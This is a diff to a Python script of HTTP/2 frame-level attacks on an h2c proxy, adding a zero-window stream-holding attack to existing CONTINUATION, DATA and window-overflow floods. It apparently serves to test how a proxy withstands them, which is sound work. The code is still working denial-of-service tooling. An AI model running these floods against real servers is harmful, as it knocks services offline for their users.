@@ -1,6 +1,6 @@
 """HTTP/2 attacks that abuse one connection's frames, each against a proxy on h2c:
 
-    python3 h2_floods.py HOST PORT ATTACK
+    python3 h2_floods.py HOST PORT ATTACK [PATH]
 
 ATTACK is one of:
   continuation-endless   a HEADERS frame without END_HEADERS, then CONTINUATION frames for ever
@@ -14,6 +14,9 @@ ATTACK is one of:
   empty-data-flood       an open stream, then DATA frames with no payload
   window-overflow        WINDOW_UPDATEs that take the connection window past 2^31 - 1
   too-many-streams       many more streams opened at once than SETTINGS_MAX_CONCURRENT_STREAMS
+  zero-window            a client whose windows are 0 (SETTINGS_INITIAL_WINDOW_SIZE 0, the
+                         connection's never opened) opening 1,000 streams to PATH (default
+                         /v1/big) and holding them for 10 s: nothing can be sent to it
 
 Frames are built by hand (struct, and hpack for header blocks), so nothing in a client library
 stops them. Prints one JSON object: what was sent, the GOAWAY error code if one came, whether
@@ -121,7 +124,7 @@ class Connection:
             self.poll(0.2)
 
 
-def attack(conn, name):
+def attack(conn, name, path="/v1/big"):
     sent = 0
     started = time.monotonic()
     limit_seconds = 20
@@ -185,6 +188,19 @@ def attack(conn, name):
         conn.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
         conn.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)))
         sent = 2
+    elif name == "zero-window":
+        conn.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+        for stream in range(1, 2001, 2):
+            if not conn.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, conn.request_block(path=path))):
+                break
+            sent += 1
+        hold_until = time.monotonic() + 10
+        while time.monotonic() < hold_until and not conn.closed:
+            conn.poll(0.5)
+        # Held: the server neither closed nor sent more than it may.
+        return {"attack": name, "frames_sent": sent, "goaway_error_code": conn.goaway, "closed": conn.closed,
+                "stalled": conn.stalled, "resets_received": conn.resets, "responses_received": conn.headers_received,
+                "held": True, "seconds": round(time.monotonic() - started, 3)}
     elif name == "too-many-streams":
         stream = 1
         while running() and stream < 2 * 1000:
@@ -202,4 +218,4 @@ def attack(conn, name):
 
 
 if __name__ == "__main__":
-    print(json.dumps(attack(Connection(sys.argv[1], int(sys.argv[2])), sys.argv[3])))
+    print(json.dumps(attack(Connection(sys.argv[1], int(sys.argv[2])), sys.argv[3], *sys.argv[4:5])))
